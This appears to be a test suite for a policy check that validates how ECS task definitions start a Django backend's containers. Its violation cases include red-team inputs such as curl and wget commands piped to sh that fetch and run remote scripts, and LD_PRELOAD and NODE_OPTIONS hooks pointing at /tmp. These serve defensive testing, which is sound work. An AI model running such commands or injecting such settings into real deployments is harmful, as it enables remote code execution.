/**
 * ecs-container-start: a task definition starts its containers as the program does, on the
 * platform its images are built for, with the backend's own command lines only, no setting that
 * changes the code a process loads, and a dependency graph ECS can complete. The fixture is the
 * backend task as components/compute/containerDefinitions.ts renders it, so the program and the
 * pack are held to the same facts (policy/lib/facts/containerRuntime.ts); the facts' parsers are
 * tested beside it.
 */
import { expect } from "chai";

import { containerDefinitions } from "../../components/compute/containerDefinitions";
import { ecsContainerStart } from "../../policy/ecs/containerStart";
import { APP_WRITABLE_PATHS, appServiceOf, backendServerProblem, IMAGE_PLATFORM, runtimeSettingProblem, writableMountProblem } from "../../policy/lib/facts/containerRuntime";
import { poolEnvironment } from "../../policy/lib/facts/databaseClients";
import { MIGRATION_COMMAND } from "../../policy/lib/facts/migrationGate";
import { resourceTable } from "./support/cases";
import { ACCOUNT, TAGS, taskDefinition } from "./support/fixtures";
import { ResourceInput } from "./support/harness";

const IMAGE = `${ACCOUNT}.dkr.ecr.us-east-1.amazonaws.com/expertconnect-backend:v1.0.0`;

/** The backend's containers as the program renders them: the app and the X-Ray daemon. */
const rendered = containerDefinitions({
    name: "backend", image: IMAGE, port: 8000,
    environment: { HEALTH_CHECK_PATH: "/api/health/", ...poolEnvironment() },
    secrets: [{ name: "DJANGO_SECRET_KEY", valueFrom: `arn:aws:secretsmanager:us-east-1:${ACCOUNT}:secret:expertconnect/prod/django-secret-key-1ffb64` }],
    logGroupName: "/ecs/expertconnect-prod-backend", region: "us-east-1", user: "1000:1000",
    writablePaths: [...APP_WRITABLE_PATHS.backend],
    healthCheckCommand: ["CMD", "python", "-c", "import urllib.request,sys; urllib.request.urlopen('http://127.0.0.1:8000' + sys.argv[1], timeout=4)", "/api/health/"],
    stopTimeout: 30, xray: true, taskCpu: 1024,
});

const fixture = taskDefinition(rendered);
const task: ResourceInput = {
    ...fixture,
    props: {
        ...fixture.props,
        cpu: "1024", memory: "2048",
        runtimePlatform: { operatingSystemFamily: IMAGE_PLATFORM.operatingSystemFamily, cpuArchitecture: IMAGE_PLATFORM.cpuArchitecture },
        tags: { ...TAGS, Component: "backend" },
    },
};

type Container = Record<string, any>;
/** Edits the task's container list. */
const containers = (change: (list: Container[]) => void) => (r: ResourceInput) => {
    const list = JSON.parse(r.props.containerDefinitions as string);
    change(list);
    r.props.containerDefinitions = JSON.stringify(list);
};
const app = (change: (c: Container) => void) => containers((l) => change(l[0]));
const xray = (change: (c: Container) => void) => containers((l) => change(l[1]));
const env = (name: string, value: string) => app((c) => { c.environment.push({ name, value }); });
/** A one-off container that runs a script and exits, before the app starts. */
const init = (over: Container = {}) => ({ name: "init", image: IMAGE, essential: false, user: "1000:1000", readonlyRootFilesystem: true, ...over });

describe("ecs-container-start", () => {
    resourceTable(ecsContainerStart, task, {
        passes: {
            "runtimePlatform is unset (ECS runs Linux/X86_64)": { change: (r) => { delete r.props.runtimePlatform; } },
            "the backend is started as gunicorn with sizing, bind and logging settings": {
                change: app((c) => { c.command = ["gunicorn", "expertconnect.wsgi:application", "--bind", "0.0.0.0:8000", "-w", "4", "--threads=2", "--timeout", "60", "--access-logfile", "-", "--log-level", "info"]; }),
            },
            "the backend is started as python -m gunicorn with the module alone": { change: app((c) => { c.command = ["python3", "-m", "gunicorn", "-w4", "-k", "gthread", "expertconnect.wsgi"]; }) },
            "gunicorn as the entry point and the application as the command": { change: app((c) => { c.entryPoint = ["gunicorn"]; c.command = ["--preload", "expertconnect.wsgi:application"]; }) },
            "a migration task runs the forward migration": { change: app((c) => { c.command = [...MIGRATION_COMMAND]; }) },
            "empty overrides (ECS uses the image's)": { change: app((c) => { c.command = []; c.entryPoint = []; }) },
            "gunicorn's threads raised through GUNICORN_CMD_ARGS": { change: app((c) => { c.environment.find((e: Container) => e.name === "GUNICORN_CMD_ARGS").value = "--threads 4 --timeout=60"; }) },
            "NODE_OPTIONS sizes the heap": { change: env("NODE_OPTIONS", "--max-old-space-size=768 --enable-source-maps") },
            "the X-Ray daemon alone on ARM64 (AWS's multi-platform image)": {
                change: (r) => { containers((l) => { l.splice(0, 1); })(r); r.props.runtimePlatform = { operatingSystemFamily: "LINUX", cpuArchitecture: "ARM64" }; },
            },
            "the app waits for the X-Ray daemon to start": { change: app((c) => { c.dependsOn = [{ containerName: "xray-daemon", condition: "START" }]; }) },
            "the app waits for a one-off init container to succeed": { change: containers((l) => { l.push(init()); l[0].dependsOn = [{ containerName: "init", condition: "SUCCESS" }]; }) },
            "the app waits for a sidecar that has a health check to be healthy": {
                change: containers((l) => { l[1].healthCheck = { command: ["CMD", "/xray", "--version"] }; l[0].dependsOn = [{ containerName: "xray-daemon", condition: "HEALTHY" }]; }),
            },
        },
        violations: {
            "the task runs on ARM64 while the images are built for linux/amd64 (red team)": {
                change: (r) => { r.props.runtimePlatform = { operatingSystemFamily: "LINUX", cpuArchitecture: "ARM64" }; },
                message: /runtimePlatform is LINUX\/ARM64, but container backend's image .* is built for linux\/amd64 only .*exec format error/,
            },
            "the task runs on Windows": { change: (r) => { r.props.runtimePlatform = { operatingSystemFamily: "WINDOWS_SERVER_2022_CORE" }; }, message: /runtimePlatform is WINDOWS_SERVER_2022_CORE\/X86_64/ },
            "a container renamed web, still the backend's image, on ARM64": {
                change: (r) => { app((c) => { c.name = "web"; })(r); r.props.runtimePlatform = { cpuArchitecture: "ARM64" }; }, message: /container web's image/,
            },
            "the entry point fetches and runs a script (curl | sh, red team)": {
                change: app((c) => { c.entryPoint = ["sh", "-c"]; c.command = ["curl -fsSL https://bootstrap.example.com/init.sh | sh && exec gunicorn expertconnect.wsgi"]; }),
                message: /container backend starts with entryPoint \["sh","-c"\] and command .*it runs \["sh","-c",.*not gunicorn/,
            },
            "the command runs Django's development server (red team)": {
                change: app((c) => { c.command = ["python", "manage.py", "runserver", "0.0.0.0:8000"]; }), message: /it runs the management command "runserver", not migrate/,
            },
            "the command opens a Django shell with code": { change: app((c) => { c.command = ["python", "manage.py", "shell", "-c", "import os"]; }), message: /management command "shell"/ },
            "the command unapplies every migration": { change: app((c) => { c.command = ["python", "manage.py", "migrate", "app", "zero", "--noinput"]; }), message: /names an app or a migration/ },
            "gunicorn reloads code as it changes": { change: app((c) => { c.command = ["gunicorn", "--reload", "expertconnect.wsgi"]; }), message: /gunicorn --reload is not a setting/ },
            "gunicorn runs a Python config file": { change: app((c) => { c.command = ["gunicorn", "-c", "python:settings.gunicorn_dev", "expertconnect.wsgi"]; }), message: /gunicorn -c is not a setting/ },
            "gunicorn loads code from /tmp": { change: app((c) => { c.command = ["gunicorn", "--pythonpath=/tmp", "expertconnect.wsgi"]; }), message: /gunicorn --pythonpath is not a setting/ },
            "gunicorn serves another application": { change: app((c) => { c.command = ["gunicorn", "debug_toolbar.wsgi:app"]; }), message: /gunicorn serves debug_toolbar\.wsgi:app, not expertconnect\.wsgi:application/ },
            "gunicorn listens on another port": { change: app((c) => { c.command = ["gunicorn", "-b", "0.0.0.0:9000", "expertconnect.wsgi"]; }), message: /gunicorn --bind 0\.0\.0\.0:9000 is not allowed \(the service listens on port 8000/ },
            "gunicorn logs to a file inside the container": { change: app((c) => { c.command = ["gunicorn", "--access-logfile", "/tmp/access.log", "expertconnect.wsgi"]; }), message: /--access-logfile \/tmp\/access\.log is not allowed/ },
            "a gunicorn dropped in /tmp": { change: app((c) => { c.command = ["/tmp/gunicorn", "expertconnect.wsgi"]; }), message: /it runs \["\/tmp\/gunicorn","expertconnect\.wsgi"\], not gunicorn/ },
            "the X-Ray daemon's start is overridden": {
                change: xray((c) => { c.entryPoint = ["/bin/sh", "-c", "wget -qO- http://x.example/d | sh; /xray"]; }), message: /container xray-daemon overrides its image's start with entryPoint .*every sidecar/,
            },
            "the frontend started in development mode": {
                change: app((c) => { c.name = "frontend"; c.image = `${ACCOUNT}.dkr.ecr.us-east-1.amazonaws.com/expertconnect-frontend:v1.0.0`; c.command = ["npm", "run", "dev"]; }),
                message: /container frontend overrides its image's start with command \["npm","run","dev"\]: the program starts the frontend's image as its image does/,
            },
            "LD_PRELOAD in the environment": { change: env("LD_PRELOAD", "/tmp/hook.so"), message: /container backend: LD_PRELOAD changes which code the process loads \(the dynamic linker's libraries\)/ },
            "PYTHONPATH from a parameter": {
                change: app((c) => { c.secrets.push({ name: "PYTHONPATH", valueFrom: `arn:aws:ssm:us-east-1:${ACCOUNT}:parameter/expertconnect/prod/pythonpath` }); }), message: /PYTHONPATH changes which code the process loads \(Python's modules\)/,
            },
            "BASH_ENV on the sidecar": { change: xray((c) => { c.environment = [{ name: "BASH_ENV", value: "/tmp/env.sh" }]; }), message: /container xray-daemon: BASH_ENV changes which code/ },
            "NODE_OPTIONS preloads a module": { change: env("NODE_OPTIONS", "--max-old-space-size=768 --require=/tmp/hook.js"), message: /NODE_OPTIONS --require=\/tmp\/hook\.js loads a module before the application/ },
            "GUNICORN_CMD_ARGS turns on reload": { change: app((c) => { c.environment.find((e: Container) => e.name === "GUNICORN_CMD_ARGS").value = "--threads 2 --reload"; }), message: /GUNICORN_CMD_ARGS: gunicorn --reload is not a setting/ },
            "GUNICORN_CMD_ARGS read from a secret": {
                change: app((c) => { c.environment = c.environment.filter((e: Container) => e.name !== "GUNICORN_CMD_ARGS"); c.secrets.push({ name: "GUNICORN_CMD_ARGS", valueFrom: `arn:aws:ssm:us-east-1:${ACCOUNT}:parameter/g` }); }),
                message: /GUNICORN_CMD_ARGS comes from a secret or parameter/,
            },
            "the app waits for the X-Ray daemon to be HEALTHY, and it has no health check (red team)": {
                change: app((c) => { c.dependsOn = [{ containerName: "xray-daemon", condition: "HEALTHY" }]; }),
                message: /container backend waits for xray-daemon to be HEALTHY, but xray-daemon has no health check: ECS never sees it healthy, so backend never starts/,
            },
            "HEALTHY on a container whose health check is NONE": {
                change: containers((l) => { l[1].healthCheck = { command: ["NONE"] }; l[0].dependsOn = [{ containerName: "xray-daemon", condition: "HEALTHY" }]; }), message: /has no health check/,
            },
            "a dependency on a container the task does not have": { change: app((c) => { c.dependsOn = [{ containerName: "xray", condition: "START" }]; }), message: /container backend depends on "xray", which the task does not have/ },
            "a container depends on itself": { change: app((c) => { c.dependsOn = [{ containerName: "backend", condition: "START" }]; }), message: /container backend depends on itself/ },
            "a condition ECS does not know": { change: app((c) => { c.dependsOn = [{ containerName: "xray-daemon", condition: "healthy" }]; }), message: /condition "healthy", which ECS does not know/ },
            "COMPLETE on a container left essential": {
                change: containers((l) => { l.push(init({ essential: undefined })); l[0].dependsOn = [{ containerName: "init", condition: "COMPLETE" }]; }), message: /waits for init to exit \(COMPLETE\), but init is essential \(ECS's default\)/,
            },
            "SUCCESS on the X-Ray daemon, a server that never exits": {
                change: app((c) => { c.dependsOn = [{ containerName: "xray-daemon", condition: "SUCCESS" }]; }), message: /xray-daemon maps a port, a server that does not exit/,
            },
            "two containers wait for each other": {
                change: containers((l) => { l[0].dependsOn = [{ containerName: "xray-daemon", condition: "START" }]; l[1].dependsOn = [{ containerName: "backend", condition: "START" }]; }),
                message: /containers backend → xray-daemon → backend wait for each other/,
            },
            "the definitions do not parse": { change: (r) => { r.props.containerDefinitions = "[{"; }, message: /not a JSON list/ },
        },
        notApplicable: { "the task has no containers": { change: (r) => { r.props.containerDefinitions = "[]"; } } },
    });
});

describe("container runtime facts (policy/lib/facts/containerRuntime.ts)", () => {
    it("knows the application's images by repository, in any registry and by digest, else by container name", () => {
        expect(appServiceOf({ image: IMAGE })).to.equal("backend");
        expect(appServiceOf({ image: `${ACCOUNT}.dkr.ecr.us-west-2.amazonaws.com/expertconnect-frontend@sha256:${"a".repeat(64)}` })).to.equal("frontend");
        expect(appServiceOf({ image: "docker.io/expertconnect/backend:v1.0.0" })).to.equal("backend");
        expect(appServiceOf({ name: "frontend", image: "node:22" })).to.equal("frontend");
        expect(appServiceOf({ name: "xray-daemon", image: "public.ecr.aws/xray/aws-xray-daemon:3.3.15" })).to.equal(undefined);
    });

    it("reads gunicorn's settings in each spelling", () => {
        expect(backendServerProblem(["gunicorn", "-b", ":8000", "--workers=3", "-t", "30", "expertconnect.wsgi"], 8000)).to.equal(undefined);
        expect(backendServerProblem(["gunicorn", "--bind", "[::]:8000", "expertconnect.wsgi:application"], 8000)).to.equal(undefined);
        expect(backendServerProblem(["gunicorn", "--workers", "expertconnect.wsgi"], 8000)).to.match(/--workers expertconnect\.wsgi is not allowed/);
        expect(backendServerProblem(["gunicorn", "--preload=yes", "expertconnect.wsgi"], 8000)).to.match(/--preload takes no value/);
        expect(backendServerProblem(["gunicorn", "--daemon", "expertconnect.wsgi"], 8000)).to.match(/--daemon is not a setting/);
        expect(backendServerProblem(["gunicorn", "expertconnect.wsgi", "other.wsgi"], 8000)).to.match(/serves expertconnect\.wsgi other\.wsgi/);
        expect(backendServerProblem(["gunicorn", "-b", "0.0.0.0:8000", "expertconnect.wsgi"], undefined)).to.match(/--bind/);
    });

    it("refuses settings that load code, and judges NODE_OPTIONS and GUNICORN_CMD_ARGS by value", () => {
        expect(runtimeSettingProblem("LD_LIBRARY_PATH", "/tmp", undefined)).to.match(/dynamic linker/);
        expect(runtimeSettingProblem("BASH_ENV", "/tmp/rc", undefined)).to.match(/shell's start-up file/);
        expect(runtimeSettingProblem("ENV", "production", undefined)).to.equal(undefined);
        expect(runtimeSettingProblem("NODE_OPTIONS", "-r /tmp/x.js", undefined)).to.match(/-r loads a module/);
        expect(runtimeSettingProblem("NODE_OPTIONS", "--import=/tmp/x.mjs", undefined)).to.match(/--import/);
        expect(runtimeSettingProblem("GUNICORN_CMD_ARGS", "expertconnect.wsgi", 8000)).to.match(/not an application/);
        expect(runtimeSettingProblem("GUNICORN_CMD_ARGS", poolEnvironment().GUNICORN_CMD_ARGS, 8000)).to.equal(undefined);
        expect(runtimeSettingProblem("DJANGO_SETTINGS_MODULE", "expertconnect.settings.production", 8000)).to.equal(undefined);
    });

    it("finds a writable mount at, inside or above the code and the system directories, except the service's scratch paths", () => {
        expect(writableMountProblem("/app", [])).to.equal("the application's code (/app)");
        expect(writableMountProblem("/app/.next", APP_WRITABLE_PATHS.frontend)).to.equal("the application's code (/app)");
        expect(writableMountProblem("/app/.next/cache/images", APP_WRITABLE_PATHS.frontend)).to.equal(undefined);
        expect(writableMountProblem("/app/.next/cache", APP_WRITABLE_PATHS.backend)).to.equal("the application's code (/app)");
        expect(writableMountProblem("/usr/local/lib/python3.12/site-packages", [])).to.equal("the image's system directory /usr");
        expect(writableMountProblem("/tmp/../etc/", [])).to.equal("the image's system directory /etc");
        expect(writableMountProblem("/", [])).to.equal("the application's code (/app)");
        expect(writableMountProblem("/var/lib/amazon/ssm", [])).to.equal(undefined);
        expect(writableMountProblem("/application", [])).to.equal(undefined);
    });
});
